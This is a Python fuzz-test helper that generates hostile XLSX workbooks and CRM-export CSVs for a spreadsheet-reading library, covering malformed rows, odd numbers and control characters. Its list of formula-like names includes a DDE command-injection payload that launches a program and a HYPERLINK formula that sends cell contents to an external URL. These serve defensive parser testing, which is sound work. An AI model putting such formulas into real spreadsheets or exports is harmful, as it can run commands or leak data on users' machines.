"""Workbooks written directly as XML parts, for the fuzz tests (issue 11): a hypothesis strategy and the writer.

A case is plain data (:class:`Case`: rows of :class:`XCell`), so a failure that hypothesis shrinks, or one
written by hand in the test module's KNOWN section, is a few lines to read. :func:`write_xlsx` writes the
package as Excel would lay it out, with what openpyxl never writes: rows without ``r``, blank cells with and
without a ``<c>`` element, inline and rich text, error values, cached formula results, hidden rows and columns.
"""

from __future__ import annotations

import csv
import math
import zipfile
from dataclasses import dataclass, field
from xml.sax.saxutils import escape, quoteattr

from hypothesis import strategies as st
from openpyxl.utils import get_column_letter

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
MAX_ROW, MAX_COL = 1_048_576, 16_384

# styles.xml below: 0 General, 1 #,##0, 2 bold, 3 solid fill, 4 "$"#,##0 (custom 164), 5 a date (14), 6 text (@)
STYLES = {"general": 0, "thousands": 1, "bold": 2, "filled": 3, "dollars": 4, "date": 5, "text": 6}
DATE_STYLES = {STYLES["date"]}


@dataclass
class XCell:
    """One ``<c>`` element. ``kind``: ``n`` (``value`` is the text of ``<v>``), ``s`` (a shared string: ``value``
    is the text, ``rich`` splits it in runs), ``inlineStr``, ``e`` (an error code), ``b``, ``f`` (``value`` is
    the formula without ``=``, ``cached`` the text of its ``<v>`` or None), ``str`` (a formula with a text result),
    ``empty`` (an element with no value: a styled blank)."""

    col: int
    kind: str
    value: str | None = None
    style: int = 0
    rich: bool = False
    cached: str | None = None
    write_r: bool = True


@dataclass
class XRow:
    r: int
    cells: list
    write_r: bool = True
    hidden: bool = False
    raw_r: str | None = None  # an r attribute written as given (e.g. beyond Excel's last row)


@dataclass
class Case:
    rows: list
    hidden_cols: tuple = ()
    sheet_title: str = "Sales"
    # what the generator meant, for predict and for reading failures: (top, left) of the header, labels
    top: int = 1
    left: int = 1
    salespeople: list = field(default_factory=list)
    clients: list = field(default_factory=list)
    matrix_like: bool = True
    features: frozenset = frozenset()

    def labels(self):
        return [*self.salespeople, *self.clients]


# -- the package --------------------------------------------------------------------------------------------------

_STYLES_XML = (
    f'<styleSheet xmlns="{MAIN}"><numFmts count="1"><numFmt numFmtId="164" formatCode="&quot;$&quot;#,##0"/>'
    '</numFmts><fonts count="2"><font><sz val="11"/><name val="Calibri"/></font><font><b/><sz val="11"/>'
    '<name val="Calibri"/></font></fonts><fills count="3"><fill><patternFill patternType="none"/></fill><fill>'
    '<patternFill patternType="gray125"/></fill><fill><patternFill patternType="solid"><fgColor rgb="FFFFFF00"/>'
    '</patternFill></fill></fills><borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border>'
    '</borders><cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="7"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="3" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
    '<xf numFmtId="0" fontId="1" fillId="0" borderId="0" xfId="0" applyFont="1"/>'
    '<xf numFmtId="0" fontId="0" fillId="2" borderId="0" xfId="0" applyFill="1"/>'
    '<xf numFmtId="164" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
    '<xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
    '<xf numFmtId="49" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>'
    '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles></styleSheet>')


def _t(text):
    space = ' xml:space="preserve"' if text != text.strip() else ""
    return f"<t{space}>{escape(text)}</t>"


def _runs(text):
    """Rich text: the text in two runs, the first bold, with a phonetic run that is not part of the text."""
    cut = len(text) // 2
    return (f"<r><rPr><b/></rPr>{_t(text[:cut])}</r><r>{_t(text[cut:])}</r>"
            '<rPh sb="0" eb="1"><t>PHONETIC</t></rPh>')


def cell_xml(row: int, cell: XCell, shared: dict) -> str:
    ref = f' r="{get_column_letter(cell.col)}{row}"' if cell.write_r else ""
    s = f' s="{cell.style}"' if cell.style else ""
    k = cell.kind
    if k == "empty":
        return f"<c{ref}{s}/>"
    if k == "n":
        return f"<c{ref}{s}><v>{escape(cell.value)}</v></c>"
    if k == "s":
        key = (cell.value, cell.rich)
        if key not in shared:
            shared[key] = len(shared)
        return f'<c{ref}{s} t="s"><v>{shared[key]}</v></c>'
    if k == "inlineStr":
        body = _runs(cell.value) if cell.rich else _t(cell.value)
        return f'<c{ref}{s} t="inlineStr"><is>{body}</is></c>'
    if k in ("e", "b"):
        return f'<c{ref}{s} t="{k}"><v>{escape(cell.value)}</v></c>'
    if k in ("f", "str"):
        t = ' t="str"' if k == "str" else ""
        v = "" if cell.cached is None else f"<v>{escape(cell.cached)}</v>"
        return f"<c{ref}{s}{t}><f>{escape(cell.value)}</f>{v}</c>"
    raise ValueError(k)


def sheet_xml(case: Case, shared: dict) -> str:
    parts = []
    for row in case.rows:
        attrs = ""
        if row.raw_r is not None:
            attrs += f' r="{row.raw_r}"'
        elif row.write_r:
            attrs += f' r="{row.r}"'
        if row.hidden:
            attrs += ' hidden="1"'
        cells = "".join(cell_xml(row.r, c, shared) for c in sorted(row.cells, key=lambda c: c.col))
        parts.append(f"<row{attrs}>{cells}</row>" if cells else f"<row{attrs}/>")
    cols = ""
    if case.hidden_cols:
        cols = "<cols>" + "".join(f'<col min="{c}" max="{c}" width="9" hidden="1" customWidth="1"/>'
                                  for c in sorted(set(case.hidden_cols))) + "</cols>"
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="{MAIN}" xmlns:r="{REL}">'
            f'<sheetViews><sheetView workbookViewId="0"><selection activeCell="A1" sqref="A1"/></sheetView>'
            f'</sheetViews><sheetFormatPr defaultRowHeight="15"/>{cols}<sheetData>{"".join(parts)}</sheetData>'
            '<pageMargins left="0.7" right="0.7" top="0.75" bottom="0.75" header="0.3" footer="0.3"/></worksheet>')


def shared_xml(shared: dict) -> str:
    items = sorted(shared.items(), key=lambda kv: kv[1])
    body = "".join(f"<si>{_runs(text) if rich else _t(text)}</si>" for (text, rich), _ in items)
    return f'<sst xmlns="{MAIN}" count="{len(items)}" uniqueCount="{len(items)}">{body}</sst>'


def write_xlsx(case: Case, path) -> None:
    shared = {}
    sheet = sheet_xml(case, shared)
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/'
            'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
            'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/styles.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/><Override '
            'PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'spreadsheetml.sharedStrings+xml"/></Types>'),
        "_rels/.rels": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{PKG_REL}"><Relationship '
            'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>'),
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="{MAIN}" xmlns:r="{REL}">'
            f'<bookViews><workbookView activeTab="0"/></bookViews><sheets><sheet name={quoteattr(case.sheet_title)} '
            'sheetId="1" r:id="rId1"/></sheets></workbook>'),
        "xl/_rels/workbook.xml.rels": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{PKG_REL}">'
            f'<Relationship Id="rId1" Type="{REL}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="rId2" Type="{REL}/styles" Target="styles.xml"/>'
            f'<Relationship Id="rId3" Type="{REL}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'),
        "xl/styles.xml": _STYLES_XML,
        "xl/worksheets/sheet1.xml": sheet,
        "xl/sharedStrings.xml": shared_xml(shared),
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)


def write_csv(rows, path) -> None:
    with open(path, "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows(rows)


# -- the strategies -------------------------------------------------------------------------------------------------

PLAIN_NAMES = ["Alyssa", "Brandon", "Mike", "Jessica", "Tom", "Priya", "Google", "Capgemini", "ExxonMobil", "Staples",
               "AT&T <US>", "O'Brien", "Ünïcödé", "李明", "Zoë 😀", "  spaced  ", "a\u00a0b", "Total", "k=2"]
FORMULA_LIKE = ['=1+1', '=HYPERLINK("http://example.com/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-3+4",
                "@SUM(A1:A2)", "=SUM(B2:B3)", '=PREDICT_BOOKING(A1:E7,"a","b")', "=", "==x"]
CONTROL = ["tab\there", "new\nline", "cr\rhere", "esc _x001B_ code", "bell _x0007_", "nbsp\u00a0", "zero\u200bwidth",
           "\u202eright-to-left", "\ufeffbom"]


def names(control=True, formula_like=True):
    pools = [st.sampled_from(PLAIN_NAMES), st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")),
                                                       min_size=1, max_size=12)]
    if formula_like:
        pools.append(st.sampled_from(FORMULA_LIKE))
    if control:
        pools.append(st.sampled_from(CONTROL))
    strategy = st.one_of(*pools)
    if not formula_like:  # random text may begin with "=" too (names are trimmed)
        strategy = strategy.filter(lambda n: not n.strip().startswith("="))
    return strategy


_SPECIAL_NUMBERS = ["0", "-0", "1E308", "1.7976931348623157E308", "-1.7976931348623157E308", "8.98846567431158E307",
                    "5E-324", "2.2250738585072014E-308", "1e-300", "123456789012345678901234567890", "0.1", "3.5E5",
                    "0.30000000000000004"]
_NUMERIC_TEXTS = ["500,000", "$500,000", "(1,200)", "  42  ", "1e5", "9" * 400, "1" + "0" * 320, "-0.0", "1,2,3", "$",
                  "()"]


def _fits(text, exclude):
    """Whether a number's text is outside the excluded classes: ``huge_numbers`` (1e300 and beyond, whose sums
    and differences overflow), ``seventeen_digits`` (more significant digits than openpyxl's writer keeps)."""
    digits = text.strip().lstrip("-$(").replace(",", "").rstrip(")")
    try:
        x = float(digits)
    except ValueError:
        return True
    if "huge_numbers" in exclude and (not math.isfinite(x) or abs(x) >= 1e300):
        return False
    if "seventeen_digits" in exclude and x != float(f"{x:.15g}"):
        return False
    return True


def number_texts(exclude=frozenset()):
    """The text of a ``<v>`` of a number: ordinary amounts, huge and tiny ones, many digits."""
    floats = st.floats(allow_nan=False, allow_infinity=False)
    if "seventeen_digits" in exclude:
        floats = floats.map(lambda x: float(f"{x:.15g}"))
    return st.one_of(
        st.integers(-10**7, 10**7).map(str),
        st.floats(-1e7, 1e7, allow_nan=False).map(lambda x: float(f"{x:.15g}") if "seventeen_digits" in exclude
                                                   else x).map(repr),
        st.sampled_from([t for t in _SPECIAL_NUMBERS if _fits(t, exclude)]),
        floats.filter(lambda x: "huge_numbers" not in exclude or abs(x) < 1e300).map(repr),
    )


def numeric_texts(exclude=frozenset()):
    return st.sampled_from([t for t in _NUMERIC_TEXTS if _fits(t, exclude)])


ERROR_CODES = {"#N/A", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#NULL!"}
ERRORS = st.sampled_from(sorted(ERROR_CODES))


@st.composite
def text_cell(draw, col, value, style=0):
    kind = draw(st.sampled_from(["s", "s", "inlineStr"]))
    return XCell(col, kind, value, style, rich=draw(st.booleans()) and len(value) > 1)


@st.composite
def value_cell(draw, col, exclude):
    """A matrix value cell; None for a blank without a ``<c>`` element."""
    style = draw(st.sampled_from([0, 0, 1, 3, 4] + ([] if {"date_styles", "bad_values"} & exclude else [5])))
    kind = draw(st.sampled_from(["number"] * 8 + ["blank"] * 4 + ["numeric_text", "formula", "zero"]
                                + ([] if "bad_values" in exclude else ["error", "bool", "bad_text"])))
    if "bad_values" in exclude and kind in ("numeric_text", "formula"):
        kind = "number"  # a case meant to fill: no text that may not read as a number, no formula without a value
    if kind == "number":
        text = draw(number_texts(exclude))
        if style == 5 and "date_fractions" in exclude and float(text) != round(float(text)):
            text = str(round(float(text)))  # a date-styled number that is a whole day (see KNOWN date_fractions)
        return XCell(col, "n", text, style)
    if kind == "zero":
        return XCell(col, "n", "0", style)
    if kind == "blank":
        return None if draw(st.booleans()) else XCell(col, "empty", None, draw(st.sampled_from([0, 1, 3])))
    if kind == "numeric_text":
        return draw(text_cell(col, draw(numeric_texts(exclude)), style))
    if kind == "formula":
        formulas = ["1+1", "2*3", "SUM(1,2)"] + ([] if "formula_of_rich_text" in exclude else ["A1"])
        return XCell(col, "f", draw(st.sampled_from(formulas)), style,
                     cached=draw(st.one_of(st.none(), number_texts(exclude))))
    if kind == "error":
        return XCell(col, "e", draw(ERRORS), style)
    if kind == "bool":
        return XCell(col, "b", draw(st.sampled_from(["0", "1"])), style)
    bad = ["n/a", "abc", " "] + ([] if "formula_like" in exclude else ["=1+1"])
    return draw(text_cell(col, draw(st.sampled_from(bad)), style))


@st.composite
def cases(draw, exclude=frozenset()):
    """A sheet holding a sales matrix somewhere (or, some of the time, something that is not one), with the
    features of issue 11's fuzz. ``exclude`` names features not to generate (see the test module's KNOWN)."""
    features = set()
    far_left = "far_right" not in exclude and draw(st.integers(0, 19)) == 0
    n_people, n_clients = draw(st.integers(1, 6)), draw(st.integers(1, 5))
    top = draw(st.integers(1, 6))
    left = MAX_COL - n_clients if far_left else draw(st.integers(1, 5))
    if far_left:
        features.add("far_right")
    people = draw(st.lists(names(control="control" not in exclude, formula_like="formula_like" not in exclude),
                           min_size=n_people, max_size=n_people))
    clients = draw(st.lists(names(control="control" not in exclude, formula_like="formula_like" not in exclude),
                            min_size=n_clients, max_size=n_clients))
    hostile_values = draw(st.integers(0, 2)) == 0  # else every value reads as a number or a blank: fill writes
    cells = {}  # (row, col) -> XCell
    corner = draw(st.sampled_from(["", "Bookings ($)", "Salesperson"]))
    if corner:
        cells[top, left] = draw(text_cell(left, corner, STYLES["bold"]))
    for j, name in enumerate(clients):
        cells[top, left + 1 + j] = draw(text_cell(left + 1 + j, name, draw(st.sampled_from([0, 2]))))
    for i, name in enumerate(people):
        r = top + 1 + i
        cells[r, left] = draw(text_cell(left, name, draw(st.sampled_from([0, 2]))))
        for j in range(n_clients):
            c = draw(value_cell(left + 1 + j, exclude if hostile_values else exclude | {"bad_values"}))
            if c is not None:
                cells[r, c.col] = c
    if top > 2 and draw(st.booleans()):  # a title above, one empty row between
        cells[top - 2, left] = draw(text_cell(left, "Q3 bookings", STYLES["bold"]))
    bottom = top + n_people
    if not far_left and draw(st.integers(0, 4)) == 0:  # a totals row of =SUM formulas with cached values
        bottom += 1
        cells[bottom, left] = draw(text_cell(left, "Total", STYLES["bold"]))
        for j in range(n_clients):
            col = get_column_letter(left + 1 + j)
            cells[bottom, left + 1 + j] = XCell(left + 1 + j, "f", f"SUM({col}{top + 1}:{col}{top + n_people})",
                                                STYLES["dollars"], cached=draw(st.one_of(st.none(), number_texts(exclude))))
    if not far_left and draw(st.integers(0, 5)) == 0:  # xlrec functions for convert, below the matrix
        rng = f"{get_column_letter(left)}{top}:{get_column_letter(left + n_clients)}{top + n_people}"
        who = draw(st.sampled_from(people)).replace('"', '""')
        what = draw(st.sampled_from(clients)).replace('"', '""')
        col = draw(st.integers(1, 3))
        fn = draw(st.sampled_from([f'PREDICT_BOOKING({rng},"{who}","{what}")',
                                   f'ROUND(PREDICT_BOOKING({rng},"{who}","{what}"),-3)',
                                   f'EXPLAIN_BOOKING({rng},"{who}","{what}")', f"SIMILAR_SALESPEOPLE({rng},\"{who}\")",
                                   f'RECOMMEND_CLIENTS({rng},"{who}")', f"FILL_MATRIX({rng})"]))
        cells[bottom + 3, col] = XCell(col, "f", fn)
        features.add("xlrec_formula")
    if "far_cells" not in exclude and draw(st.integers(0, 9)) == 0:  # one far cell
        r, c = draw(st.sampled_from([(MAX_ROW, MAX_COL), (MAX_ROW, 1), (1, MAX_COL), (60_000, 200)]))
        if r > bottom + 1 or c > left + n_clients + 1:
            cells[r, c] = draw(st.one_of(st.just(XCell(c, "n", "1")), text_cell(c, "far away")))
            features.add("far_cells")
    if draw(st.integers(0, 9)) == 0:  # a stray note elsewhere
        r = draw(st.integers(1, bottom + 4))
        c = draw(st.integers(1, 12))
        if (r, c) not in cells and not (top - 1 <= r <= bottom + 1 and left - 1 <= c <= left + n_clients + 1):
            cells[r, c] = draw(text_cell(c, draw(names(control="control" not in exclude,
                                                        formula_like="formula_like" not in exclude))))
    by_row = {}
    for (r, c), cell in cells.items():
        by_row.setdefault(r, []).append(cell)
    rows = []
    previous = 0
    omit_r = draw(st.integers(0, 3)) == 0
    for r in sorted(by_row):
        # a row may leave out r (the schema allows it): it is then the row of its cells' addresses, which
        # xlrec's package reader takes for the row after the previous one
        write_r = not (omit_r and draw(st.booleans()))
        if not write_r and r != previous + 1:
            if "rows_without_r" in exclude:
                write_r = True
            else:
                features.add("rows_without_r")
        rows.append(XRow(r, by_row[r], write_r=write_r, hidden=draw(st.integers(0, 6)) == 0))
        previous = r
    if draw(st.integers(0, 5)) == 0:  # styled empty cells beside the matrix
        r = top + draw(st.integers(0, n_people))
        for row in rows:
            if row.r == r and left + n_clients + 3 <= MAX_COL and all(c.col != left + n_clients + 3 for c in row.cells):
                row.cells.append(XCell(left + n_clients + 3, "empty", None, STYLES["filled"]))
    hidden_cols = tuple(draw(st.lists(st.integers(1, 8), max_size=2)))
    if "huge_row" not in exclude and draw(st.integers(0, 49)) == 0:
        rows.append(XRow(10**11, [XCell(1, "n", "1", write_r=False)], raw_r="99999999999"))
        features.add("huge_row")
    title = draw(st.sampled_from(["Sales", "Q3 & Q4", "Ünï 'x'", "Sheet1"]))
    matrix_like = n_people >= 1 and n_clients >= 1
    return Case(rows, hidden_cols, title, top, left, people, clients, matrix_like, frozenset(features))


@st.composite
def crm_rows(draw, exclude=frozenset()):
    """The rows of a CRM export CSV (a header, then salesperson, client, amount) with hostile names."""
    control = "control" not in exclude
    formula_like = "formula_like" not in exclude
    name = st.one_of(names(control=control, formula_like=formula_like), st.just(""), st.just("  "))
    if control and "csv_controls" not in exclude:
        name = st.one_of(name, st.sampled_from(["bell\x07", "esc\x1b[31m", "del\x7f", "vt\x0b", "ff\x0c"]))
    if "error_code_names" in exclude:
        name = name.filter(lambda n: n.strip() not in ERROR_CODES)
    else:
        name = st.one_of(name, st.sampled_from(sorted(ERROR_CODES)))
    odd = ["n/a", "nan"] + ([] if "formula_like" in exclude else ["=1+1"])
    odd += [] if "huge_numbers" in exclude else ["1e999", "inf"]
    amount = st.one_of(number_texts(exclude), numeric_texts(exclude), st.just(""), st.sampled_from(odd))
    rows = draw(st.lists(st.tuples(name, name, amount), min_size=1, max_size=12))
    return [["Rep", "Account", "Amount"], *map(list, rows)]
